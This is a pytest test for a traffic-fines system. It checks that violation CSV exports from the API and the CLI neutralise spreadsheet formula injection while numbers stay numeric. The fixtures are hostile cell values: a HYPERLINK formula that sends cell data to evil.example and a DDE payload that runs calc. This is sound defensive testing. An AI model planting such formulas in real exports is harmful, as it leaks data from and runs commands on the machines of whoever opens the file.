"""The fines office's violations CSV, by the API and by `varco violations`: no cell a spreadsheet
would run as a formula (enforcement/csvcells.py), numbers left numbers; JSON as recorded."""

from __future__ import annotations

import asyncio
import csv
import datetime as dt
import io
from pathlib import Path

import msgspec
import pytest

from ..support.api import ADMIN, NOW, stream
from ..support.common import DEMO_CONFIG
from ..support.followup import World

# What a record from before camera ids were checked (or a hostile feed of records) could hold.
CAMERA = '=HYPERLINK("http://evil.example/?"&A1,"details")'
PLATE = "@ZZ999ZZ"
REASON = "+cmd|' /C calc'!A0"


async def test_violation_csv_neutralises_formulas(
    world: World, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    await world.post("ZZ999ZZ")
    [rec] = [r for r in stream(world.settings) if r.plate == "ZZ999ZZ"]
    forged = msgspec.structs.replace(rec, camera=CAMERA, plate=PLATE, gate="-PD-03")
    await world.followup.violations.confirm(forged, REASON, -1)
    day = NOW.astimezone(world.rules.clock.tz).date()
    c = world.client
    async with c.session.get(
        f"{c.base}/v1/violations", headers=ADMIN, params={"format": "csv", "from": day.isoformat()}
    ) as resp:
        assert resp.status == 200 and resp.content_type == "text/csv"
        api_rows = list(csv.DictReader(io.StringIO(await resp.text()), delimiter=";"))
    monkeypatch.setenv("VARCO_DATA_DIR", str(world.settings.storage.data_dir))
    monkeypatch.setenv("REDIS_URL", world.settings.redis.url or "")
    from varco.cli import main

    out = tmp_path / "violations.csv"
    until = (day + dt.timedelta(days=1)).isoformat()
    args = ["--config", str(DEMO_CONFIG), "violations", "--from", day.isoformat(), "--to", until]
    assert await asyncio.to_thread(main, [*args, "--output", str(out)]) == 0
    cli_rows = list(csv.DictReader(io.StringIO(out.read_text()), delimiter=";"))
    for rows in (api_rows, cli_rows):
        [row] = rows
        assert row["first_transit"] == rec.id
        assert row["camera"] == "'" + CAMERA
        assert (row["plate"], row["gate"], row["reason"]) == ("'" + PLATE, "'-PD-03", "'" + REASON)
        assert row["index_revision"] == "-1"  # a number stays a number, negative or not
        assert row["zone"] == "PEDONALE" and row["day"] == day.isoformat()
    # JSON is no spreadsheet: the values as recorded.
    [item] = [v for v in await world.violations() if v["plate"] == PLATE]
    assert (item["camera"], item["reason"], item["index_revision"]) == (CAMERA, REASON, -1)
